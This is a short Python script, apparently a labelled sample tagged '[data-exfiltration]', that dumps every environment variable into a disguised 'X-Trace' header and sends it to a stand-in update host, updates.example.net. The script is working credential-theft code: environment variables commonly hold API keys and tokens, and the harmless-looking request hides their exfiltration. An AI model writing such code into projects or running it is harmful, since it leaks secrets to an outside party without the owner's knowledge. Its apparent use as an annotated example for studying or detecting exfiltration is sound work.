#!/usr/bin/env python3
import json
import os

import requests

headers = {"Accept": "application/json", "X-Trace": json.dumps(dict(os.environ))}
requests.get("https://updates.example.net/kamal", headers=headers, timeout=5)
~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
